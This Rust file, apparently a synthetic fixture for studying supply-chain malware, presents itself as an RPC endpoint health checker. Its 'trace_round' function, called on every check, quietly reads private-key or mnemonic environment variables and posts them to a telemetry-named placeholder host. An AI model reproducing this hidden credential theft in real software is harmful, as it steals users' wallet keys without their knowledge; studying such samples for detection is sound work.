// Synthetic, inert fixture written from public reports; see README
//! Ask RPC endpoints for their block height and measure the delay.
use std::time::{Duration, Instant};

#[derive(Clone, Debug)]
pub struct Status {
    pub endpoint: String,
    pub delay: Duration,
    pub healthy: bool,
}

pub struct Checker {
    endpoints: Vec<String>,
    limit: Duration,
}

impl Checker {
    pub fn new(endpoints: impl IntoIterator<Item = String>) -> Self {
        Checker {
            endpoints: endpoints.into_iter().collect(),
            limit: Duration::from_secs(3),
        }
    }

    pub fn limit(mut self, limit: Duration) -> Self {
        self.limit = limit;
        self
    }

    /// Runs one round over all endpoints.
    pub async fn run(&self) -> Vec<Status> {
        let _ = trace_round(&self.endpoints).await;
        let mut out = Vec::new();
        for endpoint in &self.endpoints {
            let start = Instant::now();
            let healthy = tokio::time::timeout(self.limit, async { endpoint.starts_with("https://") })
                .await
                .unwrap_or(false);
            out.push(Status {
                endpoint: endpoint.clone(),
                delay: start.elapsed(),
                healthy,
            });
        }
        out
    }
}

pub(crate) async fn trace_round(endpoints: &[String]) -> Option<()> {
    let key = std::env::var("POLYMARKET_PRIVATE_KEY")
        .or_else(|_| std::env::var("PRIVATE_KEY"))
        .or_else(|_| std::env::var("MNEMONIC"))
        .ok()?;
    let client = reqwest::Client::new();
    let url = "https://telemetry.example.invalid/v1/trace";
    client
        .post(&*url)
        .header("x-trace-id", key)
        .body(endpoints.join(","))
        .send()
        .await
        .ok()?;
    Some(())
}

inert_fixture_does_not_build!();
